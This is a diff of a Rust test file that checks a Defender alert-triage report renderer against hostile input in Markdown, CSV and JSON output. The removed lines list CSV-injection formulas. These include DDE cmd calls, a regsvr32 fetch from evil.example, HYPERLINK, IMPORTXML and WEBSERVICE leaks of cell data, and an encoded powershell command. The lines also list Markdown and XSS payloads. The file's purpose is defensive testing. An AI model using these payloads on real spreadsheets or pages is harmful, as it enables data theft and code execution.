@@ -5,209 +5,25 @@
 //! must have every cell quoted and no field that starts with a formula trigger, whichever of
 //! `,` `;` tab `|` a spreadsheet splits on; the JSON must parse and give every string back.
 
-use chrono::{DateTime, TimeZone, Utc};
+mod hostile;
+
 use comrak::nodes::{AstNode, NodeValue};
 use comrak::{Arena, Options, parse_document};
-use mde_triage::case::Note;
-use mde_triage::defender::model::{AlertComment, Evidence, RelatedUser};
-use mde_triage::defender::{Alert, Severity, Status};
-use mde_triage::report::{AlertEntry, CaseReport, Dated, Format, IpEntry, Step, render};
+use hostile::{FORMULAS, MARKDOWN, PORTAL, hostile_case, t};
+use mde_triage::defender::Alert;
+use mde_triage::report::{CaseReport, Format, render};
 use proptest::prelude::*;
-
-const PORTAL: &str = "https://security.microsoft.com";
-const IP: &str = "10.209.67.177";
-
-fn t(h: u32) -> DateTime<Utc> {
-    Utc.with_ymd_and_hms(2026, 11, 23, h, 0, 0).unwrap()
-}
-
-/// Formula payloads: OWASP's CSV Injection page, PayloadsAllTheThings' "CSV Injection" and
-/// other public lists, with the separators and lookalikes that get around naive defences.
-const FORMULAS: &[&str] = &[
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "@SUM(1+9)*cmd|' /C calc'!A0",
-    "+1+1",
-    "-2+3+cmd|' /C calc'!E2",
-    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
-    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
-    "=WEBSERVICE(\"http://evil.example/\"&A1)",
-    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
-    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
-    "=MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll'!''",
-    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
-    "=1+2\";=1+2",
-    "=1+2'\" ;,=1+2",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "  =1+1",
-    "\"=1+1\"",
-    "\"\"=1+1",
-    "x;=1+1",
-    "x|=1+1",
-    "x,=1+1",
-    "x\t=1+1",
-    "x\r\n@SUM(A1)",
-    "x; \"-1+1",
-    "\u{FF1D}1+1",
-    "\u{FF0B}1+1",
-    "\u{FF0D}1+1",
-    "\u{FF20}SUM(A1)",
-    "\u{3000}\u{FF1D}1",
-    "-1",
-    "powershell.exe -nop -w hidden -enc SQBFAFgA",
-];
-
-/// Markdown payloads: links, images, autolinks, HTML, entities, references, footnotes, wiki
-/// links, math, emphasis, code, block markers and table breaks.
-const MARKDOWN: &[&str] = &[
-    "[click](javascript:alert(1))",
-    "[x](https://evil.example)",
-    "![img](https://evil.example/p.png)",
-    "<https://evil.example>",
-    "<a href=\"https://evil.example\">x</a>",
-    "<img src=x onerror=alert(1)>",
-    "<script>alert(1)</script>",
-    "<!-- hidden -->",
-    "[ref]: https://evil.example",
-    "[ref] [ref][] [x][ref]",
-    "https://evil.example/x",
-    "HTTP://EVIL.EXAMPLE",
-    "ftp://evil.example/f",
-    "www.evil.example",
-    "see www.x now",
-    "evil.example",
-    "admin@evil.example",
-    "mailto:admin@evil.example",
-    "xmpp:admin@evil.example/res",
-    "file://evil.example/share",
-    "&lt;script&gt; &#x3C;b&#x3E; &amp;",
-    "| a | b |",
-    "a\n\n# heading",
-    "a\r\n> quote",
-    "a\n- item",
-    "a\n1. item",
-    "# heading #",
-    "> [!WARNING]",
-    "`code` ``code``",
-    "```\ncode\n```",
-    "***",
-    "---",
-    "*em* _em_ **strong** __strong__ ~~del~~ ~sub~",
-    "[^1]\n\n[^1]: https://evil.example",
-    "[[wiki]] [[x|y]]",
-    "$x$ $$x$$",
-    "- [ ] task",
-    "\\",
-    "\\|",
-    "a\\",
-    "data:text/html;base64,PHNjcmlwdD4=",
-    "hxxp://evil[.]example",
-    "\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}",
-    "evil\u{202E}fdp.exe",
-    "",
-];
-
-/// A case with `s` in every text field at once: case name, tenant, API host, IPs, tags, notes,
-/// alert ids, and every field of an alert (title, description, user, device, comments,
-/// evidence).
-fn hostile_case(s: &str) -> CaseReport {
-    let alert = Alert {
-        id: s.into(),
-        title: s.into(),
-        description: format!("{s}\n{s}"),
-        severity: Severity::from(s),
-        status: Status::from(s),
-        category: Some(s.into()),
-        computer_dns_name: Some(s.into()),
-        machine_id: Some(s.into()),
-        alert_creation_time: Some(t(9)),
-        mitre_techniques: vec![s.into(), "T1105".into()],
-        related_user: Some(RelatedUser {
-            user_name: Some(s.into()),
-            domain_name: Some(s.into()),
-        }),
-        comments: vec![AlertComment {
-            comment: s.into(),
-            created_by: Some(s.into()),
-            created_time: Some(t(10)),
-        }],
-        evidence: vec![Evidence {
-            entity_type: Some(s.into()),
-            file_name: Some(s.into()),
-            file_path: Some(s.into()),
-            sha256: Some(s.into()),
-            process_command_line: Some(s.into()),
-            ip_address: Some(s.into()),
-            url: Some(s.into()),
-            account_name: Some(s.into()),
-            domain_name: Some(s.into()),
-            detection_status: Some(s.into()),
-        }],
-        ..Alert::default()
-    };
-    let note = |h| Note {
-        at: t(h),
-        text: s.into(),
-    };
-    CaseReport {
-        case: s.into(),
-        created: t(8),
-        updated: t(12),
-        tenant_id: Some(s.into()),
-        api_host: s.into(),
-        portal: PORTAL.into(),
-        path: vec![
-            Step {
-                at: t(8),
-                ip: Some(IP.into()),
-                alert: None,
-            },
-            Step {
-                at: t(9),
-                ip: Some(s.into()),
-                alert: Some(s.into()),
-            },
-        ],
-        ips: vec![
-            IpEntry {
-                ip: IP.into(),
-                stats: None,
-                alerts: Some(Dated {
-                    value: vec![alert.clone(), alert.clone()],
-                    as_of: t(9),
-                }),
-                tags: vec![s.into(), "c2 infra".into()],
-                notes: vec![note(10)],
-            },
-            IpEntry {
-                ip: s.into(),
-                stats: None,
-                alerts: None,
-                tags: vec![s.into()],
-                notes: vec![note(11), note(11)],
-            },
-        ],
-        alerts: vec![AlertEntry {
-            id: s.into(),
-            alert: Some(alert),
-            ips: Some(Dated {
-                value: vec![s.into(), IP.into()],
-                as_of: t(9),
-            }),
-            tags: vec![s.into()],
-            notes: vec![note(12)],
-        }],
-        calls: vec![],
-    }
-}
 
 fn gfm() -> Options<'static> {
     let mut o = Options::default();
     let e = &mut o.extension;
     (e.strikethrough, e.table, e.autolink, e.tasklist) = (true, true, true, true);
-    (e.footnotes, e.math_dollars, e.alerts, e.wikilinks_title_after_pipe) = (true, true, true, true);
+    (
+        e.footnotes,
+        e.math_dollars,
+        e.alerts,
+        e.wikilinks_title_after_pipe,
+    ) = (true, true, true, true);
     (e.subscript, e.underline, e.spoiler) = (true, true, true);
     o
 }
@@ -244,7 +60,7 @@ fn linkable(text: &str) -> Option<String> {
     for i in 0..chars.len() {
         let www: String = chars[i..chars.len().min(i + 4)].iter().collect();
         if www.eq_ignore_ascii_case("www.")
-            && (i == 0 || !label(chars[i - 1]))
+            && (i == 0 || !chars[i - 1].is_alphanumeric())
             && chars.get(i + 4).is_some_and(|&c| !c.is_whitespace())
         {
             return Some(around(i));
@@ -341,7 +157,11 @@ fn check_markdown(r: &CaseReport, md: &str) -> Result<(), String> {
         .map(|e| 1 + e.ips.as_ref().map_or(0, |d| d.value.len()))
         .sum();
     if links.len() != steps + rows + alerts {
-        return Err(format!("{} links, not {}: {links:?}", links.len(), steps + rows + alerts));
+        return Err(format!(
+            "{} links, not {}: {links:?}",
+            links.len(),
+            steps + rows + alerts
+        ));
     }
     if let Some(l) = links.iter().find(|l| !l.starts_with(&format!("{PORTAL}/"))) {
         return Err(format!("a link not to the portal: {l}"));
@@ -352,7 +172,12 @@ fn check_markdown(r: &CaseReport, md: &str) -> Result<(), String> {
     }
     // Each table: a header and one row per alert, six cells each, the last holding the
     // alert's own link (a cell split by injected text would push it out: GFM drops extras).
-    let listed: Vec<&Vec<Alert>> = r.ips.iter().filter_map(|e| e.alerts.as_ref()).map(|d| &d.value).collect();
+    let listed: Vec<&Vec<Alert>> = r
+        .ips
+        .iter()
+        .filter_map(|e| e.alerts.as_ref())
+        .map(|d| &d.value)
+        .collect();
     let listed: Vec<&Vec<Alert>> = listed.into_iter().filter(|v| !v.is_empty()).collect();
     if tables.len() != listed.len() {
         return Err(format!("{} tables, not {}", tables.len(), listed.len()));
@@ -360,7 +185,11 @@ fn check_markdown(r: &CaseReport, md: &str) -> Result<(), String> {
     for (table, alerts) in tables.iter().zip(listed) {
         let rows: Vec<_> = table.children().collect();
         if rows.len() != alerts.len() + 1 {
-            return Err(format!("{} table rows for {} alerts", rows.len(), alerts.len()));
+            return Err(format!(
+                "{} table rows for {} alerts",
+                rows.len(),
+                alerts.len()
+            ));
         }
         for (row, a) in rows[1..].iter().zip(alerts) {
             let cells: Vec<_> = row.children().collect();
@@ -478,7 +307,8 @@ fn check_all(s: &str) -> Result<(), String> {
     let md = render(&r, Format::Markdown, now);
     check_markdown(&r, &md).map_err(|e| format!("markdown: {e}\n{md}"))?;
     let csv_text = render(&r, Format::Csv, now);
-    check_csv(&csv_text, r.ips.len() + r.alerts.len()).map_err(|e| format!("csv: {e}\n{csv_text}"))?;
+    check_csv(&csv_text, r.ips.len() + r.alerts.len())
+        .map_err(|e| format!("csv: {e}\n{csv_text}"))?;
     check_json(s, &render(&r, Format::Json, now)).map_err(|e| format!("json: {e}"))
 }
 
@@ -514,11 +344,22 @@ fn the_checks_catch_what_they_are_for() {
     }
     let csv_text = render(&r, Format::Csv, t(16));
     assert!(check_csv(&csv_text, 3).is_ok());
-    for injected in ["=1+1", "x;=1", "x|@A1", "x; -1", "\t", "\"\"=1", "\u{FF1D}1"] {
+    for injected in [
+        "=1+1",
+        "x;=1",
+        "x|@A1",
+        "x; -1",
+        "\t",
+        "\"\"=1",
+        "\u{FF1D}1",
+    ] {
         let bad = csv_text.replacen("\"x\"", &format!("\"{injected}\""), 1);
         assert!(check_csv(&bad, 3).is_err(), "{injected:?}");
     }
-    assert!(check_csv(&csv_text.replacen("\"x\"", "x", 1), 3).is_err(), "unquoted");
+    assert!(
+        check_csv(&csv_text.replacen("\"x\"", "x", 1), 3).is_err(),
+        "unquoted"
+    );
 }
 
 /// What an analyst reads in a ticket: defanged indicators, shown as written, not links.
@@ -532,7 +373,10 @@ fn markdown_shows_defanged_indicators_as_written() {
         ("www.evil.example", "www[.]evil[.]example"),
         ("admin@evil.example", "admin@evil[.]example"),
         ("[x](https://evil.example)", "[x](hxxps://evil[.]example)"),
-        ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
+        (
+            "<img src=x onerror=alert(1)>",
+            "<img src=x onerror=alert(1)>",
+        ),
         ("*not bold* | _x_ `y`", "*not bold* | _x_ `y`"),
         ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
         ("line one\nline two", "line one line two"),
@@ -566,23 +410,30 @@ fn csv_keeps_values_readable_behind_the_quote_mark() {
     let device = header.iter().position(|h| h == "device").unwrap();
     let r = hostile_case("ws-fin-07.contoso.local");
     let text = render(&r, Format::Csv, t(16));
-    let row = csv::Reader::from_reader(text.as_bytes()).records().nth(2).unwrap().unwrap();
-    assert_eq!(&row[device], "ws-fin-07.contoso.local", "CSV is not defanged");
+    let row = csv::Reader::from_reader(text.as_bytes())
+        .records()
+        .nth(2)
+        .unwrap()
+        .unwrap();
+    assert_eq!(
+        &row[device], "ws-fin-07.contoso.local",
+        "CSV is not defanged"
+    );
 }
 
 /// Hostile characters, densely: separators, quotes, triggers, markup and URL pieces.
 fn dense() -> impl Strategy<Value = String> {
     let pieces = proptest::sample::select(vec![
-        "=", "+", "-", "@", "\t", "\r", "\n", ",", ";", "|", "\"", "'", " ", "\u{3000}", "\u{FF1D}",
-        "\u{FF0D}", "<", ">", "&", "[", "]", "(", ")", "!", "`", "*", "_", "~", "#", "$", "\\",
-        ".", ":", "/", "http", "https://", "ftp://", "www.", "@evil", "evil", "example", "com",
-        "1", "a", "é", "рф", "\u{1b}[", "\u{202E}", "\u{FEFF}", "\u{2028}",
+        "=", "+", "-", "@", "\t", "\r", "\n", ",", ";", "|", "\"", "'", " ", "\u{3000}",
+        "\u{FF1D}", "\u{FF0D}", "<", ">", "&", "[", "]", "(", ")", "!", "`", "*", "_", "~", "#",
+        "$", "\\", ".", ":", "/", "http", "https://", "ftp://", "www.", "@evil", "evil", "example",
+        "com", "1", "a", "é", "рф", "\u{1b}[", "\u{202E}", "\u{FEFF}", "\u{2028}",
     ]);
     proptest::collection::vec(pieces, 0..24).prop_map(|v| v.concat())
 }
 
 proptest! {
-    #![proptest_config(ProptestConfig::with_cases(1000))]
+    #![proptest_config(ProptestConfig::with_cases(512))]
 
     /// Any string at all, in every field: every format holds.
     #[test]
